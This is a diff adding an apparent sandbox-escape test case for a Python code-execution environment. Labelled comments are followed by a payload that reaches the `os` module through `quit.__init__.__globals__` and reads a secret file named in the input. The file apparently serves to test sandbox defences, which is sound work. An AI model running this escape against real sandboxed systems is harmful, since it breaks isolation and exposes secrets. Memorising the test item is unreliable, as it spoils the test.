@@ -1,0 +1,12 @@
+# class: wrapper breaking
+# technique: an await where no coroutine is
+# layers: supervisor
+# single: there is no text to break out of, so that no other layer is asked
+# code: user
+# control: the child puts syntax trees together, not texts, whatever is off
+# witness: secret
+host = _items[0]["json"]
+async def read():
+    os = quit.__init__.__globals__["sys"].modules["os"]
+    return os.read(os.open(host["secret"], 0), 4096).decode()
+return [{"json": {"reached": await read()}}]
